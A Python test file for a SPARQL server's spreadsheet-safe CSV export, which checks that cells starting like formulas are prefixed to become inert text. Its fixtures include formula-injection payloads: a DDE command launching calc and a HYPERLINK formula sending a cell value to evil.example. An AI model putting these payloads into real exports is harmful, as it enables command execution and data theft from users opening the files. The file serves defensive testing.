"""Tables for spreadsheets: no cell begins as a formula does, everything else is as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.endpoint.spreadsheet import HarmlessTable, harmless
from tests.api.serving import Server

FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "=", "-", "+33 2 99"]
TEXTS = ["", "1", "-12.5", "+4", "-1,5", "6e-7", "a=b", "Ville d'Été", "'quoted", "http://example.org/", " =1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell: str) -> None:
    assert harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", TEXTS)
def test_everything_else_stays(cell: str) -> None:
    assert harmless(cell) == cell


letters = st.characters(exclude_categories=["Cs"], exclude_characters="\0")
cells = st.one_of(st.sampled_from(FORMULAS + TEXTS), st.text(letters))
tables = st.integers(1, 4).flatmap(lambda width: st.lists(st.lists(cells, min_size=width, max_size=width), min_size=1))


@given(tables, st.lists(st.integers(0, 400)))
def test_any_table_cut_anywhere_keeps_its_cells(table: list[list[str]], cuts: list[int]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerows(table)
    plain, places = text.getvalue().encode(), sorted({0, *cuts})
    pieces = [plain[start:end] for start, end in zip(places, [*places[1:], None], strict=True)]
    rewriter = HarmlessTable()
    out = b"".join([*map(rewriter.feed, pieces), rewriter.feed(b"", last=True)])
    assert out.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))
    assert rows == [[harmless(cell) for cell in row] for row in table]
    assert [cell for row in rows for cell in row if cell.startswith(("=", "@", "\t", "\r", "\n"))] == []


QUERY = """SELECT ?cell ?number WHERE { VALUES (?cell ?number) {
    ("=HYPERLINK(\\"http://evil.example/\\"&A1)" -5) ("@SUM(1)" 2.5) ("-2+3" 0)
    ("plain, \\"quoted\\"\\n=second line" 1) } }"""


@pytest.mark.parametrize("method", ["get", "form", "direct"])
def test_the_export_of_a_query(server: Server, method: str) -> None:
    address = server.address + "sparql/spreadsheet"
    if method == "get":
        answer = server.client.get(address, params={"query": QUERY})
    elif method == "form":
        answer = server.client.post(address, data={"query": QUERY})
    else:
        answer = server.client.post(address, content=QUERY, headers={"content-type": "application/sparql-query"})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="results.csv"'
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["cell", "number"],
        ['\'=HYPERLINK("http://evil.example/"&A1)', "-5"],
        ["'@SUM(1)", "2.5"],
        ["'-2+3", "0"],
        ['plain, "quoted"\n=second line', "1"],
    ]


def test_the_plain_table_stays_to_the_letter(server: Server) -> None:
    answer = server.client.get(server.address + "sparql", params={"query": QUERY, "format": "csv"})
    assert answer.content.startswith(
        b'cell,number\r\n"=HYPERLINK(""http://evil.example/""&A1)",-5\r\n@SUM(1),2.5\r\n-2+3,0\r\n'
    )


def test_a_large_table_is_rewritten_while_it_streams(server: Server) -> None:
    query = 'SELECT ?a ?b ("=1" AS ?c) WHERE { ?a ?b ?d . ?e ?f ?g } LIMIT 20000'
    answer = server.client.get(server.address + "sparql/spreadsheet", params={"query": query})
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert len(answer.content) > 1_000_000
    assert len(rows) == 20_001
    assert {row[2] for row in rows[1:]} == {"'=1"}


@pytest.mark.parametrize(("query", "status"), [
    ("", 400), ("SELECT", 400), ("CONSTRUCT WHERE { ?s ?p ?o }", 406), ("DROP ALL", 400),
])  # fmt: skip
def test_what_is_no_table_is_refused(server: Server, query: str, status: int) -> None:
    answer = server.client.get(server.address + "sparql/spreadsheet", params={"query": query} if query else {})
    assert answer.status_code == status
    assert answer.headers["content-type"] == "application/problem+json"
